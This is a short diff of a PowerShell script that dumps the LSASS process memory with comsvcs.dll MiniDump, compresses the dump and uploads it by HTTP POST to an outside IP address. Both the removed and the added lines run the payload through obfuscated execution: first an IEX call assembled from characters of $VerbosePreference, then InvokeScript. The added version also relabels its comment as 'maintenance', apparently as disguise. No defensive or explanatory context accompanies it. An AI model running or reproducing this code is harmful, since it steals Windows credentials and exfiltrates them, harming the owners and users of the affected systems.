@@ -1,6 +1,6 @@
-'# run 6890 v2
+$ExecutionContext.InvokeCommand.InvokeScript('# maintenance 6982 v2
 $p = Get-Process lsass
 rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id C:\Users\Public\lsass.dmp full
 Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
-Invoke-WebRequest -Uri http://203.0.113.200/u -Method Post -InFile C:\Users\Public\l.zip
-' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
+Invoke-WebRequest -Uri http://192.0.2.44/u -Method Post -InFile C:\Users\Public\l.zip
+')
